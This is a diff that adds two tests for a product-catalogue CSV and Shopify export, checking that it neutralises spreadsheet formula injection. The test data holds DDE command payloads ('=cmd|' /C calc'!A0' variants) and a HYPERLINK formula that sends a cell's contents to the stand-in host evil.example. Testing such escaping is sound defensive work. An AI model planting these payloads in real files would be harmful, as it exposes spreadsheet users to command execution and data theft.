@@ -210,6 +210,68 @@ for (const target of databaseTargets()) {
       );
     });
 
+    test('csv and shopify: a field whose only special character is a line break is quoted, so the row goes on past it', async () => {
+      const { id: accountId, token } = await h.account();
+      // Unquoted, the second line would start a row of its own, a formula in its first cell.
+      const description = "Prima riga\n=cmd|' /C calc'!A0";
+      await seedProduct(h.container.db, accountId, { sku: 'LF-1', content: { it: { title: 'Righe', description } } });
+      const [csvHeader, ...csvRows] = table((await exported(token, '?country=it&format=csv')).body);
+      assert.equal(csvRows.length, 1);
+      assert.equal(csvRows[0]?.[csvHeader?.indexOf('description') ?? -1], description);
+      const [, ...shopifyRows] = table((await exported(token, '?country=it&format=shopify')).body);
+      assert.equal(shopifyRows.length, 1);
+      assert.equal(shopifyRows[0]?.[2], '<p>Prima riga<br>=cmd|&apos; /C calc&apos;!A0</p>');
+    });
+
+    test('csv and shopify: a cell that would start a formula gets a leading quote; ordinary text and signed numbers stay as written', async () => {
+      const { id: accountId, token } = await h.account();
+      const hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"Details")';
+      const dde = "=cmd|' /C calc'!A0";
+      // The brand as a third-party fact source could hand it over; the rest as a manual edit sends it.
+      const id = await seedProduct(h.container.db, accountId, { sku: 'F-1', brand: dde, countries: ['it'], content: { it: { title: 'Vecchio titolo' } } });
+      const edit = await h.post('/api/v1/products/update', token, {
+        code: id,
+        country: 'it',
+        title: hyperlink,
+        short_description: 'Una pasta corta, con un = a metà',
+        description: "@SUM(1+1)*cmd|' /C calc'!A0",
+        key_features: ['+1 porzione omaggio', 'Trafilata al bronzo'],
+        title_tag: "-2+3+cmd|' /C calc'!A0",
+        meta_description: 'Descrizione normale',
+        global_attr: { colour: '＝1+1', temperature: '-5', tolerance: '+3,5', storage: '-18 °C' },
+      });
+      assert.equal(edit.statusCode, 200, edit.body);
+
+      const [header, ...rows] = table((await exported(token, '?country=it&format=csv')).body);
+      assert.equal(rows.length, 1);
+      const cell = (name: string) => rows[0]?.[header?.indexOf(name) ?? -1];
+      assert.equal(cell('title'), `'${hyperlink}`);
+      assert.equal(cell('short_description'), 'Una pasta corta, con un = a metà');
+      assert.equal(cell('description'), "'@SUM(1+1)*cmd|' /C calc'!A0");
+      assert.equal(cell('key_features'), "'+1 porzione omaggio | Trafilata al bronzo");
+      assert.equal(cell('title_tag'), "'-2+3+cmd|' /C calc'!A0");
+      assert.equal(cell('meta_description'), 'Descrizione normale');
+      assert.equal(cell('attr:colour'), "'＝1+1", 'a full-width = is a formula to Apple Numbers');
+      assert.equal(cell('attr:temperature'), '-5', 'a signed number is no formula');
+      assert.equal(cell('attr:tolerance'), '+3,5');
+      assert.equal(cell('attr:storage'), "'-18 °C", 'a number with a unit is text that starts with -');
+      assert.equal(cell('sku'), 'F-1');
+
+      const [shopifyHeader, ...shopifyRows] = table((await exported(token, '?country=it&format=shopify')).body);
+      assert.equal(shopifyRows.length, 1);
+      const shopify = (name: string) => shopifyRows[0]?.[shopifyHeader?.indexOf(name) ?? -1];
+      assert.equal(shopify('Title'), `'${hyperlink}`);
+      assert.equal(shopify('Vendor'), `'${dde}`);
+      assert.equal(shopify('SEO Title'), "'-2+3+cmd|' /C calc'!A0");
+      assert.equal(shopify('SEO Description'), 'Descrizione normale');
+      assert.equal(
+        shopify('Body (HTML)'),
+        '<p>@SUM(1+1)*cmd|&apos; /C calc&apos;!A0</p>\n<ul><li>+1 porzione omaggio</li><li>Trafilata al bronzo</li></ul>',
+        'the body starts with a tag, so it needs no quote',
+      );
+      assert.equal(shopify('Variant SKU'), 'F-1');
+    });
+
     test('an empty selection is the header alone (jsonl: nothing)', async () => {
       const { token } = await h.account();
       assert.equal((await exported(token, '?country=it&format=jsonl')).body, '');
